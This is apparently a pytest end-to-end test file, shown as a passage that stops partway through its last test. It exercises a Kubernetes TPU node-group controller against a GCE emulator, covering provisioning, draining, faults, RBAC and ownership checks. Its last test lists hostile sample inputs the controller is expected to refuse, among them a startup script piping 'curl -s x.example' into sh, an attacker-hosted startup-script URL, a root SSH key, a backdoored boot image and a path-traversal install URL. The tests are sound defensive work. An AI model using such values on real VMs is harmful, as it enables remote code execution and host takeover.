"""TPU node groups end to end: the reconcilers (as the controller identity, with
daemonsets/rbac-controller-nodegroups.yaml) against the real API server and the GCE emulator
(tests/rigs/gce.py) through the official google-cloud-compute client.

Nodes are registered by the test as kubelet would register them (a Node with the VM's
providerID); tests/bootstrap covers the node side of the join."""

from __future__ import annotations

import base64
import hashlib
import json
import time
import uuid

import pytest
from prometheus_client import CollectorRegistry

from accelnode.kube.bootstraptoken import METADATA_KEYS
from accelnode.kube.client import Client, Config, KubeError, custom_path, is_not_found
from tests.rigs.gce import BASE as BASE_URL, Server
from controller.nodegroups import reconciler as nodegroups
from controller.nodegroups.compute import GCE
from controller.runtime.manager import Manager
from tests.conftest import ROOT
from tests.crds.test_crds import example

NS_CTRL = "accelnode-system"
MULTI = ("tpu/tpunodegroup-multi-host.yaml", "v6e-multi-host")
SINGLE = ("tpu/tpunodegroup-single-host.yaml", "v7x-single-host")
# The groups here use a GCE project of their own: the reconcilers run in this process act on every
# TPUNodeGroup of the shared control plane, so another test's leftover group (project
# my-tpu-project, as the examples say) may be provisioned beside ours; it never lands here.
PROJECT = f"nodegroups-{uuid.uuid4().hex[:8]}"
# The operator's rules the groups here run under: the shipped example's (it allows what the
# upstream operator's manifests in examples/tpu/ ask for), our project added.
RULES = json.loads((ROOT / "examples/tpu/node-group-rules.json").read_text())
RULES["*"]["projects"].append(PROJECT)


@pytest.fixture(scope="module")
def nodegroup_rbac(crds, kubectl):
    out = kubectl("admin", "apply", "-f", "daemonsets/namespace.yaml", "-f", "daemonsets/rbac-controller.yaml",
                  "-f", "daemonsets/rbac-controller-nodegroups.yaml",
                  "-f", "daemonsets/rbac-controller-jointokens.yaml", "-f", "daemonsets/rbac-controller-events.yaml")
    assert out.returncode == 0, out.stderr


@pytest.fixture
def gce():
    srv = Server().start()
    yield srv
    srv.stop()


class Running:
    """The four reconcilers in this process, as the controller identity."""

    def __init__(self, control_plane, endpoint: str, **settings):
        self.client = Client(Config.from_kubeconfig(control_plane.kubeconfig("controller")), max_connections=16)
        # the groups may use our project and the examples' (tests/e2e/test_nodegroup_join.py's)
        settings = nodegroups.Settings(**{"namespace": NS_CTRL, "poll": 0.2, "drain_timeout": 5.0,
                                          "placement": RULES, **settings})
        self.gce = GCE(endpoint)
        self.manager = Manager(self.client, nodegroups.reconcilers(self.client, settings, self.gce),
                               CollectorRegistry(), workers=2, resync=30)

    def __enter__(self):
        self.manager.start()
        return self

    def __exit__(self, *exc):
        self.manager.stop(10)


@pytest.fixture
def admin(control_plane) -> Client:
    return Client(Config.from_kubeconfig(control_plane.kubeconfig("admin")))


def wait(what: str, fn, timeout: float = 60.0):
    end = time.monotonic() + timeout
    last = None
    while time.monotonic() < end:
        last = fn()
        if last:
            return last
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what}; last: {last!r}")


def tng_path(ns: str, name: str) -> str:
    return custom_path("tpu.google.com", "v1alpha1", "tpunodegroups", ns, name)


def get(admin: Client, path: str) -> dict | None:
    try:
        return admin.request("GET", path)
    except KubeError as e:
        if is_not_found(e):
            return None
        raise


def cond(obj: dict | None, kind: str) -> dict:
    return next((c for c in ((obj or {}).get("status") or {}).get("conditions") or [] if c["type"] == kind), {})


def make_group(admin: Client, ns: str, where=MULTI, name: str | None = None) -> dict:
    obj = example(*where)
    obj["metadata"]["namespace"] = ns
    obj["spec"]["project"] = PROJECT
    if name:
        obj["metadata"]["name"] = name
    return admin.request("POST", custom_path("tpu.google.com", "v1alpha1", "tpunodegroups", ns), body=obj)


def metadata(inst: dict) -> dict:
    return {i["key"]: i.get("value") for i in inst["metadata"].get("items") or []}


def _register(admin: Client, inst: dict, project: str, zone: str, ready: bool = True, claims: str = "") -> dict:
    """A Node for ``inst`` as its kubelet registers it; ``claims``: another instance named in its providerID."""
    admin.request("POST", "/api/v1/nodes", body={
        "apiVersion": "v1", "kind": "Node",
        "metadata": {"name": inst["name"], "labels": {"kubernetes.io/hostname": inst["name"]}},
        "spec": {"providerID": f"gce://{project}/{zone}/{claims or inst['name']}"}})
    node = admin.request("GET", f"/api/v1/nodes/{inst['name']}")
    node["status"] = {"conditions": [{"type": "Ready", "status": "True" if ready else "False", "reason": "KubeletReady",
                                      "message": "kubelet is posting ready status",
                                      "lastHeartbeatTime": "2026-11-24T00:00:00Z",
                                      "lastTransitionTime": "2026-11-24T00:00:00Z"}]}
    return admin.request("PUT", f"/api/v1/nodes/{inst['name']}/status", body=node)


def group_secrets(admin: Client, ns: str) -> list[dict]:
    """The join-token Secrets of the node groups in ``ns`` (other tests' groups share kube-system)."""
    out = admin.request("GET", "/api/v1/namespaces/kube-system/secrets",
                        query={"fieldSelector": "type=bootstrap.kubernetes.io/token"})
    return [s for s in out["items"]
            if (s["metadata"].get("annotations") or {}).get("accelnode.io/join-group", "").startswith(f"{ns}/")]


def test_group_lifecycle_join_label_and_teardown(control_plane, nodegroup_rbac, gce, admin, kube_namespace):
    ns = kube_namespace
    project, zone = PROJECT, "us-east5-b"
    with Running(control_plane, gce.endpoint) as ctl:
        g = make_group(admin, ns)
        # GCE: policy, template, BULK MIG with 2 VMs, the join metadata on each RUNNING VM
        insts = wait("two VMs with join metadata", lambda: [
            i for i in gce.compute.instances(project) if i["status"] == "RUNNING" and "kubeadm-join-token" in metadata(i)
        ] if len([i for i in gce.compute.instances(project) if "kubeadm-join-token" in metadata(i)]) == 2 else None)
        policy = gce.compute.resources[f"projects/{project}/regions/us-east5/resourcePolicies/"
                                       f"{next(p for p in gce.compute.resources if p.startswith(f'projects/{project}/') and '/resourcePolicies/' in p).rsplit('/', 1)[1]}"]
        assert policy["workloadPolicy"] == {"type": "HIGH_THROUGHPUT", "acceleratorTopology": "4x4"}
        mig = next(r for p, r in gce.compute.resources.items() if p.startswith(f"projects/{project}/") and "/instanceGroupManagers/" in p)
        assert mig["targetSize"] == 2 and mig["targetSizePolicy"] == {"mode": "BULK"}
        assert mig["resourcePolicies"]["workloadPolicy"] == policy["selfLink"]
        assert mig["instanceLifecyclePolicy"] == {"defaultActionOnFailure": "DO_NOTHING"}
        tmpl = next(r for p, r in gce.compute.resources.items() if p.startswith(f"projects/{project}/") and "/instanceTemplates/" in p)
        assert tmpl["properties"]["machineType"] == "ct6e-standard-8t"
        assert tmpl["properties"]["scheduling"]["provisioningModel"] == "SPOT"
        # a token of its own for each VM, each in the group's ledger
        tids = {base64.b64decode(s["data"]["token-id"]).decode() for s in group_secrets(admin, ns)}
        assert len(tids) == 2 and {metadata(i)["kubeadm-join-token"].split(".")[0] for i in insts} == tids
        for i in insts:
            md = metadata(i)
            assert md["kubeadm-control-plane-ip"] == "10.128.0.2"
            assert md["kubeadm-ca-hash"].startswith("sha256:")
            assert "cloud.google.com/gke-tpu-accelerator=tpu-v6e-slice" in md["kube-labels"]
        # children with owner references, per-child conditions
        g = admin.request("GET", tng_path(ns, "v6e-multi-host"))
        for plural in ("workloadpolicies", "instancetemplates", "managedinstancegroups"):
            (child,) = admin.request("GET", custom_path("tpu.google.com", "v1alpha1", plural, ns))["items"]
            (ref,) = child["metadata"]["ownerReferences"]
            assert ref["uid"] == g["metadata"]["uid"] and ref["controller"] and ref["blockOwnerDeletion"]
            assert cond(child, "Ready")["status"] == "True"
        for kind in ("WorkloadPolicyReady", "InstanceTemplateReady", "ManagedInstanceGroupReady"):
            assert cond(g, kind)["status"] == "True", g["status"]
        assert cond(g, "Ready")["reason"] == "AwaitingNodeJoin"

        # the VMs join (as kubelet registers): labels, taint, token gone from metadata and Secret
        for i in insts:
            _register(admin, i, project, zone, ready=True)
        g = wait("group Ready", lambda: (lambda o: o if cond(o, "Ready").get("status") == "True" else None)(
            admin.request("GET", tng_path(ns, "v6e-multi-host"))))
        assert cond(g, "Ready")["reason"] == "Ready"
        assert g["status"]["nodeSummary"] == {"ready": 2, "reconciling": 0, "failed": 0}
        for i in insts:
            node = admin.request("GET", f"/api/v1/nodes/{i['name']}")
            labels = node["metadata"]["labels"]
            assert labels["cloud.google.com/gke-tpu-accelerator"] == "tpu-v6e-slice"
            assert labels["cloud.google.com/gke-accelerator-count"] == "8"
            assert labels["cloud.google.com/gke-tpu-topology"] == "4x4"
            assert labels["cloud.google.com/tpu-node-group"] == f"{ns}-v6e-multi-host"
            assert {"key": "google.com/tpu", "value": "present", "effect": "NoSchedule"} in node["spec"]["taints"]
        wait("join metadata withdrawn", lambda: all(
            not set(METADATA_KEYS) & set(metadata(i)) for i in gce.compute.instances(project)))
        wait("token Secret revoked", lambda: group_secrets(admin, ns) == [])
        ds = wait("device plugin DaemonSet", lambda: get(
            admin, f"/apis/apps/v1/namespaces/{NS_CTRL}/daemonsets/accelnode-tpu-device-plugin"))
        assert ds["spec"]["template"]["spec"]["containers"][0]["command"] == ["accelnode", "device-plugin"]

        # steady state: no write to GCE nor to the API server
        time.sleep(1.0)
        writes = gce.compute.stats["writes"]
        rv = admin.request("GET", tng_path(ns, "v6e-multi-host"))["metadata"]["resourceVersion"]
        for c in ctl.manager.controllers:  # every key looked at again
            for obj in c.reflectors[c.reconciler.watches[0].path].snapshot():
                c.enqueue(f"{obj['metadata'].get('namespace')}/{obj['metadata']['name']}")
        time.sleep(2.0)
        assert gce.compute.stats["writes"] == writes
        assert admin.request("GET", tng_path(ns, "v6e-multi-host"))["metadata"]["resourceVersion"] == rv

        # teardown: cordon, children in reverse order, nodes, DaemonSet, then the group
        admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)
        assert not [p for p in gce.compute.resources if p.startswith(f"projects/{project}/")]
        for i in insts:
            assert get(admin, f"/api/v1/nodes/{i['name']}") is None
        assert get(admin, f"/apis/apps/v1/namespaces/{NS_CTRL}/daemonsets/accelnode-tpu-device-plugin") is None


def test_drain_respects_pod_disruption_budgets_with_a_bounded_wait(control_plane, nodegroup_rbac, gce, admin,
                                                                    kube_namespace):
    ns = kube_namespace
    project, zone = PROJECT, "us-central1-c"
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns, SINGLE)
        (inst,) = wait("the VM offered a join", lambda: [
            i for i in gce.compute.instances(project) if "kubeadm-join-token" in metadata(i)] or None)
        _register(admin, inst, project, zone)
        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "worker", "namespace": ns,
                                                               "labels": {"app": "w"}},
               "spec": {"nodeName": inst["name"], "containers": [{"name": "c", "image": "busybox"}],
                        "tolerations": [{"key": "google.com/tpu", "operator": "Exists"}]}}
        pod = admin.request("POST", f"/api/v1/namespaces/{ns}/pods", body=pod)
        pod["status"] = {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]}  # as kubelet reports
        admin.request("PUT", f"/api/v1/namespaces/{ns}/pods/worker/status", body=pod)  # (a Pending pod ignores PDBs)
        admin.request("POST", f"/apis/policy/v1/namespaces/{ns}/poddisruptionbudgets", body={
            "metadata": {"name": "w"}, "spec": {"maxUnavailable": 0, "selector": {"matchLabels": {"app": "w"}}}})
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        node = wait("cordoned", lambda: (lambda n: n if n and n["spec"].get("unschedulable") else None)(
            get(admin, f"/api/v1/nodes/{inst['name']}")))
        assert node["spec"]["unschedulable"] is True
        g = wait("draining", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "DrainingNodes" else None)(
            get(admin, tng_path(ns, "v7x-single-host"))))
        assert f"{ns}/worker" in cond(g, "Ready")["message"]
        assert gce.compute.instances(project)  # the VM stays while the budget refuses
        # the budget keeps refusing: after the drain timeout the group goes anyway
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=90)
        assert not gce.compute.instances(project)


FAULTS = [
    ({"bulk_unplaceable": True}, "InstancesCreationFailed", "ZONE_RESOURCE_POOL_EXHAUSTED"),
    ({"quota_exceeded": True}, "InstancesCreationFailed", "QUOTA_EXCEEDED"),
]


@pytest.mark.parametrize("faults, reason, text", FAULTS, ids=["bulk-unplaceable", "quota"])
def test_instance_creation_faults_are_reported_and_recover(control_plane, nodegroup_rbac, gce, admin, kube_namespace,
                                                           faults, reason, text):
    ns = kube_namespace
    gce.compute.set_faults(**faults)
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns)
        g = wait(reason, lambda: (lambda o: o if cond(o, "Ready").get("reason") == reason else None)(
            get(admin, tng_path(ns, "v6e-multi-host"))))
        assert text in cond(g, "Ready")["message"]
        assert gce.compute.instances(PROJECT) == []  # all or nothing: no VM at all
        gce.compute.set_faults(bulk_unplaceable=False, quota_exceeded=False)
        gce.compute.retry_creation()
        wait("VMs offered a join", lambda: len([i for i in gce.compute.instances(PROJECT)
                                               if "kubeadm-join-token" in metadata(i)]) == 2)
        admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)


def test_terminal_and_transient_gce_errors(control_plane, nodegroup_rbac, gce, admin, kube_namespace):
    ns = kube_namespace
    # a 403 on the template insert is terminal: the message lands in the condition, no retry
    gce.compute.set_faults(errors=[{"method": "POST", "path": f"/{PROJECT}/global/instanceTemplates$", "code": 403,
                                    "reason": "forbidden", "message": "Required 'compute.instanceTemplates.create' "
                                                                      f"permission for 'projects/{PROJECT}'"}],
                           unavailable=3, op_delay_s=0.5)  # and 503s first, retried with backoff
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns, SINGLE)
        g = wait("RequestRejected", lambda: (lambda o: o if cond(o, "InstanceTemplateReady").get("reason") ==
                                             "RequestRejected" else None)(get(admin, tng_path(ns, "v7x-single-host"))))
        assert "compute.instanceTemplates.create" in cond(g, "InstanceTemplateReady")["message"]
        writes = gce.compute.stats["writes"]
        time.sleep(1.5)
        assert gce.compute.stats["writes"] == writes  # terminal: not retried
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)


def test_restart_and_deletion_mid_provisioning(control_plane, nodegroup_rbac, gce, admin, kube_namespace):
    ns = kube_namespace
    project = PROJECT
    gce.compute.set_faults(op_delay_s=1.0, stuck_provisioning=True)
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns)
        wait("policy operation running", lambda: any(
            (c.get("status") or {}).get("operationName") for c in admin.request(
                "GET", custom_path("tpu.google.com", "v1alpha1", "workloadpolicies", ns))["items"]))
    # the controller restarts while an operation runs: the new one polls it, never inserts twice
    with Running(control_plane, gce.endpoint):
        insts = wait("VMs stuck PROVISIONING", lambda: gce.compute.instances(project) if len(
            gce.compute.instances(project)) == 2 else None)
        assert all(i["status"] == "PROVISIONING" for i in insts)
        g = wait("reported", lambda: (lambda o: o if "PROVISIONING" in cond(o, "Ready").get("message", "") else None)(
            get(admin, tng_path(ns, "v6e-multi-host"))))
        assert cond(g, "Ready")["reason"] == "AwaitingNodeJoin"
        assert not any("kubeadm-join-token" in metadata(i) for i in insts)  # not RUNNING: no token
        assert len([p for p in gce.compute.resources if p.startswith(f"projects/{project}/") and "/resourcePolicies/" in p]) == 1
        # deleted mid-provisioning: everything goes
        admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)
        assert not [p for p in gce.compute.resources if p.startswith(f"projects/{project}/")]
        assert group_secrets(admin, ns) == []


def test_user_editing_an_immutable_field_is_refused(control_plane, nodegroup_rbac, admin, kube_namespace):
    make_group(admin, kube_namespace, SINGLE, name="immutable")
    g = admin.request("GET", tng_path(kube_namespace, "immutable"))
    g["spec"]["nodeCount"] = 3
    with pytest.raises(KubeError) as err:
        admin.request("PUT", tng_path(kube_namespace, "immutable"), body=g)
    assert err.value.code == 422 and "nodeCount is immutable" in str(err.value)
    admin.request("DELETE", tng_path(kube_namespace, "immutable"))


def test_rbac_is_enough_and_no_more(nodegroup_rbac, kubectl):
    sa = "system:serviceaccount:accelnode-system:accelnode-controller"
    allowed = [("update", "nodes"), ("create", "pods", "--subresource=eviction"),
               ("update", "tpunodegroups.tpu.google.com", "--subresource=finalizers"),
               ("create", "secrets", "-n", "kube-system"), ("create", "daemonsets.apps", "-n", NS_CTRL),
               ("watch", "certificatesigningrequests.certificates.k8s.io")]
    denied = [("create", "secrets", "-n", "default"), ("create", "daemonsets.apps", "-n", "default"),
              ("update", "certificatesigningrequests.certificates.k8s.io", "--subresource=approval"),
              ("create", "certificatesigningrequests.certificates.k8s.io"),
              ("delete", "pods"), ("patch", "nodes"), ("get", "secrets", "-n", "kube-system")]
    for args in allowed + denied:
        out = kubectl("admin", "auth", "can-i", *args, f"--as={sa}")
        assert (out.stdout.strip() == "yes") == (args in allowed), (args, out.stdout, out.stderr)


def _foreign(gce, kind: str, project: str, name: str, zone: str = "us-central1-c") -> str:
    """A GCE resource someone else made under the name our group will want (no marker)."""
    c = gce.compute
    if kind == "template":
        path = f"projects/{project}/global/instanceTemplates/{name}"
        c.resources[path] = {"kind": "compute#instanceTemplate", "name": name, "description": "the data team's",
                             "properties": {"machineType": "n2-standard-8"}, "selfLink": BASE_URL + path}
    else:
        tpath = f"projects/{project}/global/instanceTemplates/theirs"
        c.resources[tpath] = {"kind": "compute#instanceTemplate", "name": "theirs", "description": "the data team's",
                              "properties": {"machineType": "n2-standard-8"}, "selfLink": BASE_URL + tpath}
        path = f"projects/{project}/zones/{zone}/instanceGroupManagers/{name}"
        mig = {"kind": "compute#instanceGroupManager", "name": name, "description": "the data team's",
               "instanceTemplate": BASE_URL + tpath, "targetSize": 1, "selfLink": BASE_URL + path}
        with c.lock:
            c._mig_made(f"projects/{project}/zones/{zone}", mig)
            c.resources[path] = mig
    return path


@pytest.mark.parametrize("kind", ["template", "mig"])
def test_a_same_name_resource_without_our_marker_is_neither_adopted_nor_deleted(
        control_plane, nodegroup_rbac, gce, admin, kube_namespace, kind):
    """Issue 25.5: someone's resource already has the name the group's child wants. It is not
    adopted (the group never becomes Ready on it, no VM of theirs gets a join token), not
    changed, and survives the group's deletion."""
    ns = kube_namespace
    g = make_group(admin, ns, SINGLE)  # before the controller runs: its names are known first
    h = hashlib.sha256(g["metadata"]["uid"].encode()).hexdigest()[:8]
    name = f"v7x-single-host-{'template' if kind == 'template' else 'mig'}-{h}"
    path = _foreign(gce, kind, PROJECT, name)
    before = json.dumps(gce.compute.resources[path], sort_keys=True)
    with Running(control_plane, gce.endpoint):
        g = wait("NotOwned", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotOwned" else None)(
            get(admin, tng_path(ns, "v7x-single-host"))))
        assert name in cond(g, "Ready")["message"] and "ownership marker" in cond(g, "Ready")["message"]
        time.sleep(1.0)
        assert not any("kubeadm-join-token" in metadata(i) for i in gce.compute.instances(PROJECT))
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)
    assert json.dumps(gce.compute.resources[path], sort_keys=True) == before  # untouched, not deleted
    assert group_secrets(admin, ns) == []


def test_a_namespace_user_naming_another_project_gets_nothing_there(control_plane, nodegroup_rbac, gce, admin,
                                                                   kube_namespace):
    """Issue 25.5: spec.project is the user's word; the operator's placement decides. Neither a
    group nor a child object made by hand reaches the victim's project."""
    ns = kube_namespace
    victim = f"victim-{uuid.uuid4().hex[:8]}"
    obj = example(*SINGLE)
    obj["metadata"]["namespace"] = ns
    obj["spec"]["project"] = victim
    admin.request("POST", custom_path("tpu.google.com", "v1alpha1", "tpunodegroups", ns), body=obj)
    admin.request("POST", custom_path("tpu.google.com", "v1alpha1", "instancetemplates", ns), body={
        "apiVersion": "tpu.google.com/v1alpha1", "kind": "InstanceTemplate", "metadata": {"name": "by-hand"},
        "spec": {"project": victim, "machineType": "tpu7x-standard-4t"}})
    g = admin.request("GET", tng_path(ns, "v7x-single-host"))
    owned = {"ownerReferences": [{"apiVersion": "tpu.google.com/v1alpha1", "kind": "TPUNodeGroup", "name": "v7x-single-host",
                                  "uid": g["metadata"]["uid"], "controller": True}]}
    # a MIG child (made by whoever may write children) booting from a template that is not its group's
    admin.request("POST", custom_path("tpu.google.com", "v1alpha1", "managedinstancegroups", ns), body={
        "apiVersion": "tpu.google.com/v1alpha1", "kind": "ManagedInstanceGroup", "metadata": {"name": "theirs", **owned},
        "spec": {"project": PROJECT, "location": "us-east5-b", "targetSize": 1,
                 "instanceTemplate": f"{BASE_URL}projects/{PROJECT}/global/instanceTemplates/privileged-nodes"}})
    with Running(control_plane, gce.endpoint, placement={ns: {"projects": [PROJECT], "zones": ["us-east5-b"]}}):
        g = wait("NotAllowed", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
            get(admin, tng_path(ns, "v7x-single-host"))))
        assert victim in cond(g, "Ready")["message"]
        m = wait("the MIG refused", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
            get(admin, custom_path("tpu.google.com", "v1alpha1", "managedinstancegroups", ns, "theirs"))))
        assert "spec.instanceTemplate" in cond(m, "Ready")["message"]
        t = wait("by-hand refused", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
            get(admin, custom_path("tpu.google.com", "v1alpha1", "instancetemplates", ns, "by-hand"))))
        assert "not controlled by a TPUNodeGroup" in cond(t, "Ready")["message"]
        # an allowed project in a zone the namespace may not use: refused too
        make_group(admin, ns, SINGLE, name="wrong-zone")  # SINGLE's zone is us-central1-c
        g = wait("zone refused", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
            get(admin, tng_path(ns, "wrong-zone"))))
        assert "us-central1-c" in cond(g, "Ready")["message"]
        time.sleep(1.0)
        assert not [p for p in gce.compute.resources if p.startswith((f"projects/{victim}/", f"projects/{PROJECT}/"))]
        for n in ("v7x-single-host", "wrong-zone"):
            admin.request("DELETE", tng_path(ns, n))
        admin.request("DELETE", custom_path("tpu.google.com", "v1alpha1", "instancetemplates", ns, "by-hand"))
        # (the MIG child goes with its group's teardown, as the group's children do)
        mig = custom_path("tpu.google.com", "v1alpha1", "managedinstancegroups", ns, "theirs")
        wait("gone", lambda: get(admin, mig) is None and get(admin, tng_path(ns, "v7x-single-host")) is None and get(
            admin, tng_path(ns, "wrong-zone")) is None and get(admin, custom_path(
                "tpu.google.com", "v1alpha1", "instancetemplates", ns, "by-hand")) is None)


def test_every_resource_carries_the_ownership_marker_and_only_our_vms_get_tokens(
        control_plane, nodegroup_rbac, gce, admin, kube_namespace):
    ns = kube_namespace
    with Running(control_plane, gce.endpoint) as ctl:
        g = make_group(admin, ns)
        wait("two VMs offered", lambda: len([i for i in gce.compute.instances(PROJECT)
                                             if "kubeadm-join-token" in metadata(i)]) == 2)
        cluster = admin.request("GET", "/api/v1/namespaces/kube-system")["metadata"]["uid"]
        token = f"accelnode-owner={cluster}/{g['metadata']['uid']}"
        mine = [r for p, r in gce.compute.resources.items() if p.startswith(f"projects/{PROJECT}/")]
        assert {r["kind"] for r in mine} == {"compute#resourcePolicy", "compute#instanceTemplate",
                                             "compute#instanceGroupManager", "compute#instance"}
        for r in mine:
            if r["kind"] == "compute#instance":  # VMs: the template's labels
                assert r["labels"] == {"accelnode-cluster": cluster, "accelnode-group-uid": g["metadata"]["uid"]}
            else:
                assert token in r["description"].split(), r
        g = admin.request("GET", tng_path(ns, "v6e-multi-host"))
        ledger = g["status"]["joinTokens"]  # the ledger names the tokens the VMs got, one each
        assert sorted(metadata(i)["kubeadm-join-token"].split(".")[0] for i in gce.compute.instances(PROJECT)) == \
            sorted(ledger) and len(set(ledger)) == 2
        # a VM the MIG did not make (its created-by says otherwise) gets no token
        c = gce.compute
        with c.lock:
            inst = next(r for r in c.resources.values() if r.get("kind") == "compute#instance")
            mig = next(r for r in c.resources.values() if r.get("kind") == "compute#instanceGroupManager")
            mig["targetSize"] = 3
            c._create_instances(mig["zone"].removeprefix(BASE_URL), mig)
            new = next(r for r in c.resources.values() if r.get("kind") == "compute#instance" and
                       not any(i["key"] == "kubeadm-join-token" for i in r["metadata"]["items"]))
            new["metadata"]["items"] = [i if i["key"] != "created-by" else {**i, "value": "projects/x/zones/y/"
                                        "instanceGroupManagers/someone-elses"} for i in new["metadata"]["items"]]
        assert inst is not new
        time.sleep(1.5)
        assert "kubeadm-join-token" not in metadata(next(i for i in c.instances(PROJECT) if i["name"] == new["name"]))
        admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)
        assert ctl  # (the reconcilers ran in this process)


def test_teardown_finds_an_unlabelled_node_after_a_restart(control_plane, nodegroup_rbac, gce, admin, kube_namespace):
    """Issue 25.6: the group's Nodes are found by their providerID, not a map in memory nor the
    label (which anyone with node rights may remove)."""
    ns = kube_namespace
    with Running(control_plane, gce.endpoint):
        make_group(admin, ns, SINGLE)
        (inst,) = wait("the VM offered a join", lambda: [
            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)] or None)
        _register(admin, inst, PROJECT, "us-central1-c")
        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
    node = admin.request("GET", f"/api/v1/nodes/{inst['name']}")
    del node["metadata"]["labels"]["cloud.google.com/tpu-node-group"]
    admin.request("PUT", f"/api/v1/nodes/{inst['name']}", body=node)
    admin.request("DELETE", tng_path(ns, "v7x-single-host"))
    with Running(control_plane, gce.endpoint):  # a new controller: nothing in memory
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)
    assert get(admin, f"/api/v1/nodes/{inst['name']}") is None
    assert not gce.compute.instances(PROJECT)


def test_deletion_policy_orphan_leaves_every_gce_resource_and_the_node(control_plane, nodegroup_rbac, gce, admin,
                                                                       kube_namespace):
    """Issue 24.5: deletionPolicy Orphan (Crossplane's shape): deleting the group leaves its GCE
    resources, VMs and Nodes; its finalizers go; its join tokens are revoked."""
    ns = kube_namespace
    with Running(control_plane, gce.endpoint):
        g = make_group(admin, ns, SINGLE)
        assert g["spec"]["deletionPolicy"] == "Delete"  # the default
        (inst,) = wait("the VM offered a join", lambda: [
            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)] or None)
        _register(admin, inst, PROJECT, "us-central1-c")
        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
        before = sorted(p for p in gce.compute.resources if p.startswith(f"projects/{PROJECT}/"))
        g = admin.request("GET", tng_path(ns, "v7x-single-host"))
        g["spec"]["deletionPolicy"] = "Orphan"  # may be changed at any time
        admin.request("PUT", tng_path(ns, "v7x-single-host"), body=g)
        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)
        wait("children gone", lambda: all(admin.request("GET", custom_path("tpu.google.com", "v1alpha1", p, ns))[
            "items"] == [] for p in ("instancetemplates", "managedinstancegroups")), timeout=60)
        time.sleep(0.5)
    assert sorted(p for p in gce.compute.resources if p.startswith(f"projects/{PROJECT}/")) == before
    assert get(admin, f"/api/v1/nodes/{inst['name']}") is not None
    assert group_secrets(admin, ns) == []
    admin.request("DELETE", f"/api/v1/nodes/{inst['name']}")


# -- issue 33.5: a namespace admin gets no node-level access through a TPUNodeGroup ------------


@pytest.fixture
def recorder(control_plane):
    """Events as the controller records them (controller/runtime/events.py), as its identity."""
    from controller.runtime import events

    r = events.Recorder(Client(Config.from_kubeconfig(control_plane.kubeconfig("controller")))).start()
    events.install(r)
    yield r
    events.install(None)
    r.stop()


def group_events(admin: Client, ns: str, name: str) -> list[dict]:
    return [e for e in admin.request("GET", f"/api/v1/namespaces/{ns}/events")["items"]
            if e["involvedObject"]["name"] == name and e["involvedObject"].get("kind") in ("TPUNodeGroup", "", None)]


@pytest.mark.parametrize("field, change", [
    ("spec.instanceConfig.image", {"image": "projects/attacker/global/images/kubelet-with-a-backdoor"}),
    ("spec.instanceConfig.serviceAccounts[0].scopes", {"serviceAccounts": [{"email": "default", "scopes": [
        "https://www.googleapis.com/auth/cloud-platform", "https://www.googleapis.com/auth/compute"]}]}),
    ("spec.instanceConfig.serviceAccounts[0].email", {"serviceAccounts": [{"email": "owner@victim.iam.gserviceaccount.com",
                                                                           "scopes": []}]}),
    ("spec.instanceConfig.metadata.startup-script", {"metadata": {"startup-script": "#!/bin/sh\ncurl -s x.example | sh"}}),
    ("spec.instanceConfig.metadata.startup-script-url", {"metadata": {"startup-script-url": "gs://attacker/x.sh"}}),
    ("spec.instanceConfig.metadata.user-data", {"metadata": {"user-data": "#cloud-config\nruncmd: [id]"}}),
    ("spec.instanceConfig.metadata.accelnode-node-bundle-url", {"metadata": {
        "accelnode-node-bundle-url": "https://storage.googleapis.com/my-tpu-project-accelnode/../attacker/b.tgz"}}),
    ("spec.instanceConfig.metadata.ssh-keys", {"metadata": {"ssh-keys": "root:ssh-ed25519 AAAA attacker"}}),
    ("spec.instanceConfig.subnetwork", {"subnetwork": "projects/victim/regions/us-central1/subnetworks/prod"}),
    ("spec.instanceConfig.networkTags", {"networkTags": ["tpu-nodes", "allow-ssh-from-anywhere"]}),
])
def test_a_namespace_admin_cannot_choose_what_runs_on_the_vms(control_plane, nodegroup_rbac, gce, admin, recorder,
                                                              kube_namespace, field, change):
    """Issue 33.5: the boot image, service account and scopes, subnetwork, code-running metadata
    and install sources are the operator's (examples/tpu/node-group-rules.json here). A group
    asking for another is refused with a condition and an Event naming the field, and GCE hears
    nothing at all."""
    ns = kube_namespace
    obj = example(*SINGLE)
